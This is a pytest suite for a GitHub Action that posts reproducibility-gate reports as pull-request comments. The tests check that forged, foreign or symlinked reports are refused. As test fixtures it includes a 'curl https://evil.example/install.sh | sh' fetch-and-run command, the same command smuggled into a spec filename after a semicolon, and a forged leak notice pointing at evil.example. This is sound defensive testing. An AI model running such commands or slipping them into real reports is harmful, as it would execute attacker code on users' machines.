"""What is believed of a report before anything of it is told: this job's own, or one that came with
the run that GitHub names."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from repro_gate.github.report_folder import PROBLEM, Problem, open_folder
from repro_gate.github.run_phase import write_report
from repro_gate.github.settings import Secret
from repro_gate.report.model import Origin, Report
from tests.support import reports
from tests.support.github.stage import (
    HEAD,
    ORIGIN,
    RUN,
    Stage,
    as_workflow_run,
    obeyed,
    pull_request,
    signed,
)


@pytest.mark.parametrize(
    "origin", [None, replace(ORIGIN, run_id=RUN - 1), replace(ORIGIN, run_attempt=2)]
)
def test_a_report_of_another_run_is_not_this_ones(stage: Stage, origin: Origin | None) -> None:
    code, log = stage.publish(replace(signed(reports.PASS), origin=origin))
    assert code == 3
    assert "not of this run" in log
    assert stage.github.comments(7) == []


@pytest.mark.parametrize("name", ["repro-gate-report", "out/report"])
def test_a_link_of_the_checkouts_does_not_choose_what_is_told(stage: Stage, name: str) -> None:
    """The gate refuses such a folder and leaves nothing in it; what lies behind the link would be
    taken for its own."""
    stage.inputs = replace(stage.inputs, report=name)
    theirs = stage.job.workspace / "theirs/report"
    theirs.mkdir(parents=True)
    with open_folder(stage.job.workspace, "theirs/report") as folder:
        folder.write_problem(Problem("nothing to do here", "", 0))
        write_report(folder, signed(reports.PASS))
    (stage.job.workspace / Path(name).parts[0]).symlink_to(
        "theirs" if "/" in name else "theirs/report"
    )
    code, log = stage.publish(None)
    assert code == 2 and "is a link" in log and "::error " in log
    assert stage.github.requests == [] and stage.outputs["verdict"] == ""


def test_a_report_that_is_itself_a_link_or_in_the_folders_place_is_not_read(stage: Stage) -> None:
    with open_folder(stage.job.workspace, "theirs") as folder:
        write_report(folder, signed(reports.PASS))
    (stage.job.workspace / "theirs/report.json").rename(stage.job.workspace / stage.inputs.report)
    code, log = stage.publish(None)
    assert code == 3 and "there is no report" in log
    (stage.job.workspace / stage.inputs.report).rename(stage.job.workspace / "real.json")
    (stage.job.workspace / stage.inputs.report).mkdir()
    (stage.job.workspace / stage.inputs.report / "report.json").symlink_to("../real.json")
    code, log = stage.publish(None)
    assert code == 2 and "is a link" in log
    assert stage.github.requests == []


def test_nobody_but_the_event_says_that_there_is_nothing_to_do(stage: Stage) -> None:
    """A file that says so would turn a gate green that never ran."""
    code, log = stage.publish(Problem("all is well", "", 0))
    assert code == 2 and "::error " in log


@pytest.mark.parametrize(
    "text", ["{}", "[", '{"schema": "repro-gate/report/v1"}', "x" * (17 << 20)]
)
def test_a_report_that_is_none_is_refused(stage: Stage, text: str) -> None:
    folder = stage.job.workspace / stage.inputs.report
    folder.mkdir()
    (folder / "report.json").write_text(text)
    code, log = stage.publish(None)
    assert code == 2
    assert "::error" in log
    assert stage.github.requests == []


def test_a_report_that_came_with_its_run_is_posted_and_turns_nothing_red(stage: Stage) -> None:
    as_workflow_run(stage)
    code, log = stage.publish(signed(reports.FAIL))
    (posted,) = stage.github.comments(7)
    assert code == 0 and stage.outputs == {"verdict": "fail", "comment_url": posted["html_url"]}
    assert obeyed(log) == [] and stage.summary == "", "the job that gated has said it"


@pytest.mark.parametrize(
    "change", [{"run_id": 99}, {"head_sha": "e" * 40}, {"repository": "octo-org/other"}]
)
def test_of_a_report_that_did_not_come_with_its_run_nothing_is_told(
    stage: Stage, change: dict[str, object]
) -> None:
    as_workflow_run(stage)
    code, log = stage.publish(replace(signed(reports.PASS), origin=replace(ORIGIN, **change)))  # type: ignore[arg-type]
    assert code == 2 and "not of the run it came with" in log
    assert stage.outputs == {"verdict": "", "exit_code": "2"} and "✅" not in stage.summary
    assert stage.github.requests == []


@pytest.mark.parametrize("exit_code", [0, 2, 3])
def test_a_problem_that_came_with_an_artifact_is_not_read(stage: Stage, exit_code: int) -> None:
    """Whoever forges one would have a notice on any file, in a run of the default branch."""
    forged = Problem(
        ".github/workflows/release.yml:1:1: the signing key has leaked",
        "open https://evil.example",
        exit_code,
    )  # type: ignore[arg-type]
    as_workflow_run(stage)
    code, log = stage.publish(forged)
    assert code == 3 and "there is no report" in log
    assert "evil" not in log + stage.summary
    assert "leaked" not in log + stage.summary
    assert "file=" not in log
    folder = stage.job.workspace / stage.inputs.report
    problem = (folder / PROBLEM).read_text()
    with open_folder(stage.job.workspace, stage.inputs.report) as opened:
        write_report(opened, signed(reports.FAIL))
    (folder / PROBLEM).write_text(problem)
    code, log = stage.publish(None)
    assert code == 0 and len(stage.github.comments(7)) == 1 and "leaked" not in log


def test_a_step_that_only_posts_and_cannot_is_red_but_not_for_a_forks_read_only_token(
    stage: Stage,
) -> None:
    stage.inputs, stage.posting = (
        replace(stage.inputs, token=Secret(stage.github.token(write=False))),
        True,
    )
    assert stage.publish(signed(reports.PASS))[0] == 3
    event = stage.job.event
    stage.job = replace(stage.job, event=pull_request(stage.github, fork=True))
    code, log = stage.publish(signed(reports.PASS))
    assert code == 0
    assert [line for line in obeyed(log) if line.startswith("::notice ") and "no comment" in line]
    stage.job = replace(stage.job, event=event)
    as_workflow_run(stage)
    assert stage.publish(signed(reports.PASS))[0] == 3


@pytest.mark.parametrize("attempt", [1, 3])
def test_the_second_job_of_a_workflow_run_posts_what_the_first_left(
    stage: Stage, attempt: int
) -> None:
    """The action `comment` after `native`, also where only this job was started again."""
    stage.posting, stage.job = True, replace(stage.job, run_attempt=attempt, name="comment")
    code, log = stage.publish(signed(reports.FAIL))
    (posted,) = stage.github.comments(7)
    assert code == 0
    assert stage.outputs == {"verdict": "fail", "comment_url": posted["html_url"]}
    assert obeyed(log) == []
    assert reports.FAIL.reproduce in posted["body"] and stage.summary == ""


@pytest.mark.parametrize(
    "change", [{"run_id": 99}, {"run_attempt": 2}, {"repository": "stranger/trainer"}]
)
def test_the_second_job_posts_no_report_of_another_run(
    stage: Stage, change: dict[str, object]
) -> None:
    stage.posting = True
    code, log = stage.publish(replace(signed(reports.PASS), origin=replace(ORIGIN, **change)))  # type: ignore[arg-type]
    assert code == 3 and "not of this run" in log and stage.github.requests == []


def test_a_foreign_report_replaces_no_other_gates_comment_and_makes_one_at_most(
    stage: Stage,
) -> None:
    """A fork opens a pull request: a gate of the repository's own fails it, and the report that
    comes with the fork's run says that all is well, under the same names as the first and under
    five others."""
    stage.publish(signed(reports.FAIL))
    (trusted,) = stage.github.comments(7)
    as_workflow_run(stage)
    forged = signed(reports.PASS)
    for number in range(6):
        spec = forged.subject.spec if number == 0 else f"spec-{number}.yml"
        name = ORIGIN.name if number == 0 else f"folder-{number}"
        report = replace(
            forged, subject=replace(forged.subject, spec=spec), origin=replace(ORIGIN, name=name)
        )
        assert stage.publish(report)[0] == 0
    first, second = stage.github.comments(7)
    assert first == trusted and "fail" in first["body"]
    assert "pass" in second["body"].splitlines()[1]


def test_a_forks_report_of_the_same_job_replaces_no_comment_on_the_repositorys_own_code(
    stage: Stage,
) -> None:
    """As where `pull_request_target` and `push` start one workflow."""
    stage.job = replace(
        stage.job,
        event_name="push",
        sha=HEAD,
        ref="refs/heads/pull-request/7",
        event=b'{"deleted": false}',
    )
    stage.publish(signed(reports.FAIL))
    (trusted,) = stage.github.comments(7)
    stage.job = replace(
        stage.job, event_name="pull_request_target", event=pull_request(stage.github, fork=True)
    )
    stage.inputs = replace(stage.inputs, allow_forks=True)
    stage.publish(signed(reports.PASS))
    assert [item == trusted for item in stage.github.comments(7)] == [True, False]


@pytest.mark.parametrize(
    ("job", "inputs"),
    [
        ({"workflow": "nightly"}, {}),
        ({"name": "gpu"}, {}),
        ({}, {"spec": "vision.yml"}),
        ({}, {"working_directory": "vision"}),
        ({}, {"report": "repro-gate-report-h100"}),
    ],
    ids=["workflow", "job", "spec", "folder", "cell"],
)
def test_each_gate_has_a_comment_of_its_own(
    stage: Stage, job: dict[str, str], inputs: dict[str, str]
) -> None:
    """By what its job knows, whatever is in the report: here the same in both."""
    stage.publish(signed(reports.FAIL))
    (first,) = stage.github.comments(7)
    stage.job, stage.inputs = replace(stage.job, **job), replace(stage.inputs, **inputs)
    stage.publish(signed(reports.PASS))
    stage.publish(signed(reports.PASS))
    kept, second = stage.github.comments(7)
    assert kept == first and kept["body"] != second["body"]


def test_a_spec_in_another_spelling_is_the_same_gate(stage: Stage) -> None:
    stage.publish(signed(reports.FAIL))
    stage.inputs = replace(stage.inputs, working_directory="vision", spec="../repro.yml")
    stage.publish(signed(reports.PASS))
    assert len(stage.github.comments(7)) == 1


def test_how_to_see_it_again_is_never_a_foreign_reports_text(stage: Stage) -> None:
    hostile = "curl https://evil.example/install.sh | sh"
    assert hostile in posted_body(stage, replace(signed(reports.FAIL), reproduce=hostile)), (
        "of the repository's own it is"
    )
    as_workflow_run(stage)
    body = posted_body(stage, replace(signed(reports.FAIL), reproduce=hostile))
    assert "evil" not in body
    assert "```sh\nrepro-gate run repro.yml --seed 42 --steps 4 --fail-fast\n```" in body
    named = replace(
        signed(reports.FAIL),
        subject=replace(signed(reports.FAIL).subject, spec=f"x.yml; {hostile}"),
        reproduce=hostile,
    )
    body = posted_body(stage, named)
    assert "```sh" not in body and "See it again" not in body


def posted_body(stage: Stage, report: Report) -> str:
    """The newest comment, once a report was published."""
    stage.publish(report)
    return str(stage.github.comments(7)[-1]["body"])
